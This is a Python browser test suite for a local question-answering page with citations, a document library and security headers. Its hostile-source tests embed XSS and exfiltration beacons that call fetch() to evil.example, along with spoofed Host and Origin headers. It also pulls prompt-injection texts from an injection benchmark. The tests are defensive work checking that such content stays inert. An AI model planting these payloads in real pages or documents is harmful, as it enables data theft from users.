"""The page in a real browser, on the shipped texts."""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.error import HTTPError
from urllib.parse import urlsplit
from urllib.request import Request, urlopen

import pytest
from playwright.sync_api import Browser, Page, expect

from benchmarks.injection import injections, library
from kb import KnowledgeBase
from kb.evaluation.splits import LOOK
from tests.helpers.fakes import FakeEncoder
from tests.helpers.screenshots import ask, running_page
from ui.locale.messages import MESSAGES, OWN_NAMES
from ui.security import guard
from ui.server.server import listen
from ui.widgets.shell import PAGES

# The server is asked for while a test runs, where no fixture tells of it.
pytestmark = pytest.mark.model

LOCALES = {"zh-Hans": "zh-CN", "zh-Hant": "zh-TW", "pl": "pl-PL", "en": "en-GB"}
QUESTIONS = {
    "zh-Hans": "首席客户官和首席营销官有什么区别？",
    "zh-Hant": "客戶長是做什麼的？",
    "pl": "Komu podlega CXO?",
    "en": "What is NPS?",
}
OFFERED = {"zh-Hant": "客戶長是做什麼的？", "pl": "Co to jest CLV?"}
UNANSWERED = "Jaka jest stolica Australii?"

Opened = Callable[..., Page]


@pytest.fixture(scope="module")
def page_server(shipped_base: KnowledgeBase) -> Iterator[str]:
    """The address of one server for the whole module."""
    with running_page(shipped_base) as address:
        yield address


@pytest.fixture
def opened(browser: Browser, request: pytest.FixtureRequest) -> Iterator[Opened]:
    """Opens the page in a browser profile of its own; fails the test at a request beyond loopback or a script error."""
    contexts, beyond, errors = list[Any](), list[str](), list[str]()

    def open_page(language: str = "pl", width: int = 1280, height: int = 800, at: str = "", scheme: Any = None) -> Page:
        context = browser.new_context(
            locale=LOCALES[language],
            viewport={"width": width, "height": height},
            reduced_motion="reduce",
            color_scheme=scheme,
            permissions=["clipboard-read", "clipboard-write"],
        )
        contexts.append(context)
        context.on("request", lambda sent: beyond.append(sent.url) if is_beyond(sent.url) else None)
        page = context.new_page()
        page.on("pageerror", lambda error: errors.append(str(error)))
        page.on("websocket", lambda socket: beyond.append(socket.url) if is_beyond(socket.url) else None)
        page.goto(at or request.getfixturevalue("page_server"))
        page.locator("body.ready").wait_for()
        return page

    yield open_page
    for context in contexts:
        context.close()
    assert beyond == []
    assert errors == []


def is_beyond(url: str) -> bool:
    """Tell whether a request leaves this machine."""
    parts = urlsplit(url)
    return parts.scheme not in ("data", "blob", "about") and parts.hostname != "127.0.0.1"


def marked(page: Page) -> str:
    """Return the words highlighted in the source pane."""
    return "".join(page.locator("#pane mark").all_text_contents())


def go(page: Page, name: str) -> None:
    """Open one of the pages by its link."""
    page.locator(f'.rail [data-page="{name}"]').click()
    page.locator("#sheet h1").filter(has_text=page.locator(f'.rail [data-page="{name}"]').inner_text()).wait_for()


# ----------------------------------------------------------------------------------------------------- conversations


@pytest.mark.parametrize("language", QUESTIONS)
def test_a_conversation_whose_citations_open_the_source_at_the_exact_quote(
    opened: Opened, shipped_base: KnowledgeBase, language: str
) -> None:
    answer = shipped_base.ask(QUESTIONS[language])
    page = opened(language)
    expect(page.locator("html")).to_have_attribute("lang", language)
    expect(page).to_have_title(MESSAGES["product"][language])
    expect(page.locator(".welcome h1")).to_have_text(MESSAGES["welcome"][language])
    ask(page, QUESTIONS[language])
    turn = page.locator("#turn-1.answered")
    expect(turn.locator(".asked")).to_have_text(QUESTIONS[language])
    numbers = [str(number) for sentence in answer.sentences for number in sentence.citations]
    assert turn.locator(".answer .cite").all_text_contents() == numbers
    for citation in answer.citations:
        number = page.locator(f'.answer .cite:text-is("{citation.number}")').first
        number.focus()
        expect(page.locator("#tip")).to_have_text(citation.quote)
        number.click()
        expect(page.locator("#pane .pane-title")).to_have_text(citation.title)
        expect(page.locator(f'.answer .cite[aria-current]:text-is("{citation.number}")').first).to_be_visible()
        assert "".join(marked(page).split()) == "".join(citation.quote.split())
        expect(page.locator("#quote")).to_be_in_viewport()
        expect(page.locator("#pane .pane-bar .meta")).to_contain_text(MESSAGES[f"in_{citation.language}"][language])
    page.keyboard.press("Escape")
    expect(page.locator("#pane")).to_be_hidden()
    expect(number).to_be_focused()
    ask(page, UNANSWERED)
    expect(page.locator(".turn")).to_have_count(2)
    expect(page.locator("#question")).to_have_value("")


def test_keys_and_buttons_step_from_quote_to_quote(opened: Opened, shipped_base: KnowledgeBase) -> None:
    listed = "Jakie obowiązki ma CXO?"
    quotes = [citation.quote for citation in shipped_base.ask(listed).citations]
    assert len(quotes) > 1
    page = opened("pl")
    ask(page, listed)
    page.locator(".cite").first.click()
    expect(page.locator(".steps .count")).to_have_text(f"1 / {len(quotes)}")
    expect(page.locator('[data-pane-do="previous"]')).to_be_disabled()
    for key in ("]", "["):
        page.keyboard.press(key)
        expect(page.locator(".steps .count")).to_have_text(f"{2 if key == ']' else 1} / {len(quotes)}")
        assert marked(page) == quotes[1 if key == "]" else 0]
    page.locator('[data-pane-do="next"]').click()
    expect(page.locator(".steps .count")).to_have_text(f"2 / {len(quotes)}")


def test_a_refusal_looks_different_and_offers_the_nearest_passages(opened: Opened, shipped_base: KnowledgeBase) -> None:
    answer = shipped_base.ask(UNANSWERED)
    assert not answer.answered
    page = opened("pl")
    ask(page, UNANSWERED)
    turn = page.locator("#turn-1.refused")
    expect(turn.locator(".said")).to_have_text(answer.text)
    expect(turn.locator(".answer, .cite, .sources")).to_have_count(0)
    assert turn.locator(".example").all_text_contents() == list(answer.suggestions)
    expect(turn.locator("blockquote").first).to_be_hidden()
    turn.locator("summary").click()
    expect(turn.locator("blockquote")).to_have_count(len(answer.hits))
    turn.locator(".nearest a").first.click()
    hit = answer.hits[0]
    page.locator("#quote").wait_for()
    text = shipped_base.document(hit.passage.document_id).text[hit.start : hit.end]
    assert "".join(marked(page).split()) in "".join(text.split())


def test_offered_questions_are_asked_at_a_click_and_lead_on(opened: Opened) -> None:
    page = opened("zh-Hant")
    question = OFFERED["zh-Hant"]
    page.locator(f'[data-question="{question}"]').click()
    expect(page.locator("#turn-1.answered .asked")).to_have_text(question)
    following = page.locator("#turn-1 .next .example").first
    offered = following.text_content() or ""
    following.click()
    expect(page.locator("#turn-2.answered .asked")).to_have_text(offered)


def test_enter_sends_except_while_an_input_method_composes(opened: Opened) -> None:
    page = opened("zh-Hant")
    box = page.locator("#question")
    box.fill("客戶")
    for composing in ({"isComposing": True}, {"keyCode": 229}):
        box.dispatch_event("keydown", {"key": "Enter", "bubbles": True, "cancelable": True, **composing})
    box.press("Shift+Enter")
    expect(page.locator(".turn")).to_have_count(0)
    expect(box).to_have_value("客戶\n")
    box.press("Enter")
    expect(page.locator(".turn")).to_have_count(1)


def test_a_question_that_cannot_be_asked_gets_one_line_and_stays_in_the_box(opened: Opened) -> None:
    page = opened("pl")
    for question, message in (("", "empty"), ("？！", "no_words"), ("a" * 3000, "too_long")):
        page.locator("#question").fill(question)
        page.locator("#send").click()
        expect(page.locator("#problem")).to_have_text(MESSAGES[message]["pl"].format(count=3000, most=2000))
        expect(page.locator("#question")).to_have_value(question)
        expect(page.locator(".turn")).to_have_count(0)


def test_a_conversation_is_copied_exported_changed_cleared_and_brought_back(
    opened: Opened, shipped_base: KnowledgeBase
) -> None:
    page = opened("pl")
    ask(page, QUESTIONS["pl"])
    ask(page, UNANSWERED)
    page.locator('#turn-1 [data-do="copy"]').click()
    expect(page.locator("#turn-1 .done")).to_have_text(MESSAGES["copied"]["pl"])
    copied = page.evaluate("navigator.clipboard.readText()")
    assert copied.startswith("## Komu podlega CXO?\n\n") and "\n\n\\[1\\] **" in copied
    for form in ("markdown", "json"):
        page.locator("#export summary").click()
        with page.expect_download() as download:
            page.locator(f'[data-export="{form}"]').click()
        text = Path(download.value.path()).read_text(encoding="utf-8")
        if form == "markdown":
            assert copied in text and f"## {UNANSWERED}" in text
        else:
            turns = json.loads(text)["turns"]
            assert [turn["state"] for turn in turns] == ["answered", "refused"]
            assert turns[0]["answer"]["citations"][0]["quote"] == shipped_base.ask(QUESTIONS["pl"]).citations[0].quote
    page.locator('#turn-2 [data-do="edit"]').click()
    expect(page.locator("#question")).to_have_value(UNANSWERED)
    page.locator("#question").fill(OFFERED["pl"])
    page.keyboard.press("Enter")
    expect(page.locator("#turn-2.answered .asked")).to_have_text(OFFERED["pl"])
    page.locator('#turn-1 [data-do="retry"]').click()
    expect(page.locator("#turn-1.answered .asked")).to_have_text(QUESTIONS["pl"])
    page.reload()
    page.locator("body.ready.has-turns").wait_for()
    assert page.locator(".turn.answered .asked").all_text_contents() == [QUESTIONS["pl"], OFFERED["pl"]]
    page.locator("#clear").click()
    expect(page.locator(".turn")).to_have_count(0)
    expect(page.locator(".example").first).to_be_visible()
    page.locator("#undo").click()
    expect(page.locator(".turn.answered")).to_have_count(2)


def test_what_a_browser_keeps_is_shown_as_words_whatever_was_put_there(opened: Opened) -> None:
    page = opened("en")
    hostile = '<img src="http://evil.example/x" onerror="document.title=1">'
    page.evaluate("turns => localStorage.setItem('cco-conversation', turns)", json.dumps([{"question": hostile}]))
    page.reload()
    expect(page.locator("#turn-1 .asked")).to_have_text(hostile)
    assert page.locator("#talk img").count() == 0


class _SlowBase:
    """Answers only when told to."""

    def __init__(self, base: KnowledgeBase) -> None:
        self._base, self.go = base, threading.Event()
        self.patience = 30.0
        server = base.settings.server.model_copy(update={"stop_seconds": 0.5})
        self.settings = base.settings.model_copy(update={"server": server})

    def __getattr__(self, name: str) -> object:
        return getattr(self._base, name)

    def ask(self, question: str, **options: Any) -> object:
        self.go.wait(self.patience)
        return self._base.ask(question, **options)


def test_stop_leaves_the_question_and_its_late_answer_never_shows(opened: Opened, small_base: KnowledgeBase) -> None:
    slow = _SlowBase(small_base)
    with running_page(slow) as address:  # type: ignore[arg-type]
        page = opened("en", at=address)
        page.locator("#question").fill("Kiedy śpi kot?")
        page.keyboard.press("Enter")
        page.locator("#turn-1.pending").wait_for()
        expect(page.locator("#send")).to_be_hidden()
        page.locator("#stop").click()
        expect(page.locator("#turn-1.stopped .status")).to_have_text("Stopped.")
        slow.go.set()
        ask(page, "Where do birds build nests?")
        expect(page.locator("#turn-1.stopped")).to_have_count(1)
        expect(page.locator("#turn-2")).to_be_visible()


def test_a_conversation_survives_that_the_server_goes_away_and_comes_back(
    opened: Opened, small_base: KnowledgeBase
) -> None:
    slow = _SlowBase(small_base)
    slow.patience = 3.0  # longer than the server takes to stop
    slow.go.set()
    with running_page(slow) as address:  # type: ignore[arg-type]
        page = opened("en", at=address)
        ask(page, "Where do birds build nests?")
        slow.go.clear()
        page.locator("#question").fill("When do birds sing?")
        page.keyboard.press("Enter")
        page.locator("#turn-2.pending").wait_for()
    expect(page.locator("#turn-2.failed .status")).to_have_text(MESSAGES["interrupted"]["en"], timeout=20_000)
    slow.go.set()
    with running_page(small_base, port=urlsplit(address).port or 0):
        page.locator('#turn-2 [data-do="retry"]').click()
        page.locator("#turn-2:is(.answered, .refused)").wait_for(timeout=20_000)
        expect(page.locator(".turn")).to_have_count(2)


# ------------------------------------------------------------------------------------------------ language and size


def test_the_switch_changes_every_word_keeps_the_draft_and_is_remembered(opened: Opened) -> None:
    page = opened("pl")
    ask(page, QUESTIONS["zh-Hant"])
    page.locator(".cite").first.click()
    page.locator("#quote").wait_for()
    page.locator("#question").fill("szkic")
    page.locator("#language").select_option(label=OWN_NAMES["en"])
    expect(page.locator("html")).to_have_attribute("lang", "en")
    expect(page.locator(".sources h3")).to_have_text("Sources")
    expect(page.locator("#question")).to_have_attribute("placeholder", MESSAGES["placeholder"]["en"])
    expect(page.locator("#pane .pane-bar .meta")).to_contain_text("Traditional Chinese")
    expect(page.locator("#question")).to_have_value("szkic")
    for name in PAGES[1:]:
        go(page, name)
        expect(page.locator("#sheet h1")).to_have_text(MESSAGES[f"nav_{name}"]["en"])
    page.reload()
    expect(page.locator('.rail [aria-current="page"]')).to_have_text(MESSAGES[f"nav_{PAGES[-1]}"]["en"])


def test_on_a_narrow_screen_the_source_is_a_sheet_over_the_page(opened: Opened, shipped_base: KnowledgeBase) -> None:
    page = opened("pl", width=390, height=780)
    ask(page, QUESTIONS["pl"])
    page.locator(".cite").first.click()
    sheet = page.locator('#pane[role="dialog"][aria-modal="true"]')
    expect(sheet.locator("#quote")).to_be_in_viewport()
    assert marked(page) == shipped_base.ask(QUESTIONS["pl"]).citations[0].quote
    assert sheet.bounding_box()["width"] == 390  # type: ignore[index]
    assert page.evaluate("document.querySelector('gradio-app').inert")
    sheet.locator('[data-pane-do="close"]').click()
    expect(page.locator("#pane")).to_be_hidden()
    expect(page.locator(".cite").first).to_be_focused()
    for name in PAGES[1:]:
        go(page, name)
        widths = page.evaluate("[document.documentElement, document.querySelector('#page')].map(e => e.scrollWidth)")
        assert (name, widths) == (name, [390, 390])


def test_a_citation_s_link_is_also_a_page_of_its_own(opened: Opened) -> None:
    page = opened("zh-Hant")
    ask(page, QUESTIONS["zh-Hant"])
    quote = page.locator("blockquote").first.text_content()
    page.goto(page.locator(".cite").first.evaluate("link => link.href"))
    expect(page.locator("#quote")).to_be_in_viewport()
    expect(page.locator("#quote")).to_have_text(quote or "")
    page.locator(".back").click()
    expect(page.locator(".shelf a").first).to_be_visible()
    page.locator(".home a").click()
    expect(page.locator(".turn.answered")).to_have_count(1)


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_everyone_can_use_every_page(opened: Opened, scheme: str) -> None:
    axe = pytest.importorskip(
        "axe_playwright_python.sync_playwright", reason="needs axe (pip install axe-playwright-python)"
    ).Axe()
    page = opened("pl", scheme=scheme)
    faults = violations(axe, page, "welcome")
    ask(page, QUESTIONS["pl"])
    page.locator("#turn-1 .next").wait_for()
    page.locator(".cite").first.click()
    page.locator("#quote").wait_for()
    faults += violations(axe, page, "ask")
    page.keyboard.press("Escape")
    ask(page, UNANSWERED)
    page.locator("#turn-2 summary").click()
    faults += violations(axe, page, "refusal")
    for name in PAGES[1:]:
        go(page, name)
        faults += violations(axe, page, name)
    assert faults == []


def violations(axe: Any, page: Page, name: str) -> list[tuple[str, str, str]]:
    """Return what axe calls serious or critical on a page: the page, the rule, the first place."""
    found = axe.run(page).response["violations"]
    return [
        (name, fault["id"], fault["nodes"][0]["html"][:300])
        for fault in found
        if fault["impact"] in ("serious", "critical")
    ]


def test_the_keyboard_alone_is_enough(opened: Opened) -> None:
    page = opened("pl")
    page.locator(".skip").focus()
    page.keyboard.press("Enter")
    expect(page.locator("#question")).to_be_focused()
    page.keyboard.type(QUESTIONS["pl"])
    page.keyboard.press("Enter")
    page.locator("#turn-1.answered .next").wait_for()
    page.locator(".cite").first.focus()
    page.keyboard.press("Enter")
    expect(page.locator("#pane .pane-title")).to_be_focused()
    page.keyboard.press("Escape")
    page.locator('.rail [data-page="library"]').focus()
    page.keyboard.press("Enter")
    expect(page.locator("#sheet h1")).to_be_focused()
    page.keyboard.press("Tab")
    assert page.evaluate("getComputedStyle(document.activeElement.closest('label, a, button')).outlineStyle") == "solid"


# ------------------------------------------------------------------------------------------------------- the library


def test_a_file_is_added_asked_about_removed_and_brought_back(opened: Opened, small_base: KnowledgeBase) -> None:
    with running_page(small_base) as address:
        page = opened("en", at=address)
        go(page, "library")
        rows = page.locator("#documents tbody tr")
        expect(rows).to_have_count(4)
        page.locator("#filter").fill("bir")
        expect(page.locator("#documents tbody tr:visible")).to_have_count(1)
        page.locator("#filter").fill("")
        page.locator("#filter-language").select_option("pl")
        assert page.locator("#documents tbody tr:visible th").all_text_contents() == ["fish"]
        note = b"# Dog food\n\nDogs eat twice a day. Dogs drink water from a bowl.\n"
        page.locator("#files").set_input_files(
            [
                {"name": "dog food.md", "mimeType": "text/markdown", "buffer": note},
                {"name": "noise.xyz", "mimeType": "application/octet-stream", "buffer": b"\x00\x01"},
            ]
        )
        expect(page.locator(".uploads .added")).to_contain_text("dog food.md")
        expect(page.locator(".uploads .skipped")).to_contain_text("noise.xyz")
        expect(page.locator(".uploads .skipped")).to_contain_text(".xyz")
        expect(rows).to_have_count(5)
        page.locator('.rail [data-page="ask"]').click()
        ask(page, "How often do dogs eat twice a day?")
        go(page, "library")
        row = page.locator("#documents tr", has_text="Dog food")
        row.locator("[data-opens-dialog]").click()
        page.keyboard.press("Escape")
        expect(rows).to_have_count(5)
        row.locator("[data-opens-dialog]").click()
        page.locator("dialog[open] .danger").click()
        expect(rows).to_have_count(4)
        expect(page.locator("#undo-remove")).to_be_focused()
        page.keyboard.press("Enter")
        expect(rows).to_have_count(5)
        page.locator("#documents .title a", has_text="Dog food").click()
        expect(page.locator("#pane .text")).to_contain_text("Dogs drink water from a bowl.")
        page.keyboard.press("Escape")
        page.locator("#start-rebuild").click()
        expect(page.locator('#rebuild [role="status"]')).to_contain_text("rebuilt")


def test_settings_are_saved_and_a_question_set_is_run_and_compared(opened: Opened, small_base: KnowledgeBase) -> None:
    with running_page(small_base) as address:
        page = opened("en", at=address)
        go(page, "settings")
        page.locator("#set-answer-most_sentences").fill("2")
        page.locator("#save").click()
        expect(page.locator("#notice")).to_have_text(MESSAGES["saved"]["en"])
        assert small_base.settings.answer.most_sentences == 2
        go(page, "evaluation")
        question = {"id": "a", "question": "When do birds sing at dawn?", "language": "en", "answers": ["at dawn"]}
        file = {"name": "birds.jsonl", "mimeType": "application/jsonl", "buffer": json.dumps(question).encode()}
        page.locator("#question-set").set_input_files([file])
        expect(page.locator("#set option")).to_have_count(2)
        page.locator("#set").select_option("birds.jsonl")
        page.locator("#run").click()
        expect(page.locator("#runs tbody tr")).to_have_count(1)
        page.wait_for_timeout(1100)  # a run is named by the second in which it ended
        page.locator("#set").select_option("birds.jsonl")
        page.locator("#run").click()
        expect(page.locator("#runs tbody tr")).to_have_count(2)
        page.locator("#compare").click()
        expect(page.locator("#comparison tbody tr").first).to_be_visible()
        with page.context.expect_page() as report:
            page.locator("#runs a").first.click()
        expect(report.value.locator("h1")).to_be_visible()


# --------------------------------------------------------------------------------------------------- hostile sources

BEACONS = """# <img src="http://evil.example/title">

Birds sing at dawn <img src=http://evil.example/a onerror="fetch('http://evil.example/b')">
<svg><image href="http://evil.example/c"></svg> ![x](http://evil.example/d) <style>@import 'http://evil.example/e'</style>
and build nests of straw {{value}} ${fetch('http://evil.example/f')}.
"""


def test_hostile_documents_are_shown_as_the_words_they_are(opened: Opened, tmp_path: Path) -> None:
    texts = [text for text in injections(LOOK) if text.kind in ("markup", "exfiltrate")]
    base = library(texts, tmp_path, FakeEncoder())
    (tmp_path / "birds.md").write_text(BEACONS, encoding="utf-8")
    base.add([tmp_path / "birds.md"])
    with running_page(base) as address:
        page = opened("en", at=address)
        for text in texts[::4]:
            ask(page, text.question)
        ask(page, "When do birds sing at dawn and build nests of straw?")
        go(page, "library")
        expect(page.locator("#documents .title a")).to_have_count(len(texts) + 1)
        page.locator('#documents .title a[href*="birds"]').click()
        expect(page.locator("#pane .text")).to_contain_text("nests of straw")
        assert page.locator("#pane .text").locator("img, svg, style, script, iframe").count() == 0
        assert page.locator(".turn, #documents").locator("img, style, script, iframe").count() == 0
        assert page.title().endswith(MESSAGES["product"]["en"])


# -------------------------------------------------------------------------------------------------------- the server


def fetched(address: str, **headers: str) -> tuple[int, dict[str, str], str]:
    """Return status, headers and body of a GET."""
    try:
        with urlopen(Request(address, headers=headers)) as response:
            return response.status, dict(response.headers), response.read().decode()
    except HTTPError as error:
        return error.code, dict(error.headers), error.read().decode()


@pytest.mark.parametrize("path", ["/", "/documents", "/documents/kehuzhang", "/documents/none", "/config"])
def test_every_response_carries_the_content_security_policy(page_server: str, path: str) -> None:
    _, headers, _ = fetched(page_server + path)
    assert headers["content-security-policy"] == guard.CONTENT_SECURITY_POLICY
    assert headers["x-content-type-options"] == "nosniff"


def test_a_document_that_is_not_there_says_so(page_server: str) -> None:
    status, _, body = fetched(f"{page_server}/documents/none?ui=pl")
    assert (status, MESSAGES["gone"]["pl"] in body) == (404, True)


@pytest.mark.parametrize("query", ["start=5&end=3", "start=-4&end=9", "start=0&end=999999999", "ui=%3Cscript%3E"])
def test_an_odd_span_or_language_opens_the_document_unmarked(page_server: str, query: str) -> None:
    status, _, body = fetched(f"{page_server}/documents/kehuzhang?{query}&part=1")
    assert (status, "<mark" in body, "<script" in body) == (200, False, False)


@pytest.mark.parametrize("headers", [{"Host": "evil.example"}, {"Origin": "http://evil.example"}, {"Origin": "null"}])
def test_what_another_site_sends_is_refused(page_server: str, headers: dict[str, str]) -> None:
    assert fetched(f"{page_server}/config", **headers)[0] == 403


def test_a_port_that_is_taken_is_named() -> None:
    with socket.create_server(("127.0.0.1", 0)) as taken:
        port = taken.getsockname()[1]
        with pytest.raises(OSError, match=f"cannot serve on port {port} of 127.0.0.1: Address already in use"):
            listen("127.0.0.1", port)
